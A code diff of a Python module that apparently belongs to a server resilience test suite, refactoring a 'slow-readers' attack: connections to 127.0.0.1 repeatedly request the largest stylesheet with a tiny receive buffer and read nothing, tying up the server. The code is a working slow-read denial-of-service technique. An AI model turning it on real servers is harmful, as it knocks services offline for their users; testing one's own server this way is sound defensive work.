@@ -1,4 +1,4 @@
-"""Many connections that ask for a large file again and again and read nothing of it."""
+"""Connections that ask for a large file again and again and read nothing of it."""
 
 from __future__ import annotations
 
@@ -7,35 +7,47 @@ import re
 import socket
 import time
 from collections import Counter
-from contextlib import ExitStack
+
+from . import Target, attack
 
 PATIENCE = 10
 ASKED = 20
 """How often in one go: more than the buffers between the two can hold."""
 SMALL = 4096
+PAUSE = 1.0
 
 
-def stylesheet(host: str, port: int) -> str:
+@attack("slow-readers")
+def read_nothing(target: Target) -> Counter[str]:
+    """One connection after the other, each until the server ends it; no status is known."""
+    answers: Counter[str] = Counter()
+    while not target.is_over:
+        try:
+            answers[_ask_and_wait(target)] += 1
+        except OSError as error:
+            answers[type(error).__name__] += 1
+    return answers
+
+
+def _ask_and_wait(target: Target) -> str:
+    request = f"GET {stylesheet(target.port)} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()
+    with socket.socket() as connection:
+        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL)
+        connection.settimeout(PATIENCE)
+        connection.connect(("127.0.0.1", target.port))
+        connection.sendall(ASKED * request)
+        while not target.is_over:
+            time.sleep(PAUSE)
+            connection.send(b"\r\n")  # an error tells that the server has ended it
+    return "open"
+
+
+def stylesheet(port: int) -> str:
     """The path of the largest file that anybody may ask for."""
-    connection = http.client.HTTPConnection(host, port, timeout=PATIENCE)
+    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=PATIENCE)
     connection.request("GET", "/sign-in")
     page = connection.getresponse().read().decode()
     connection.close()
     found = re.search(r'/static/[^"]+/vendor/tabler-[^"]+\.css', page)
     assert found, page
     return found[0]
-
-
-def attack(host: str, port: int, seconds: float, connections: int) -> Counter[int]:
-    """Keeps so many connections open for so long; nothing is read, so no status is known."""
-    request = f"GET {stylesheet(host, port)} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
-    end = time.monotonic() + seconds
-    with ExitStack() as opened:
-        for _ in range(connections):
-            one = opened.enter_context(socket.socket())
-            one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL)
-            one.settimeout(PATIENCE)
-            one.connect((host, port))
-            one.sendall(ASKED * request)
-        time.sleep(max(0.0, end - time.monotonic()))
-    return Counter()
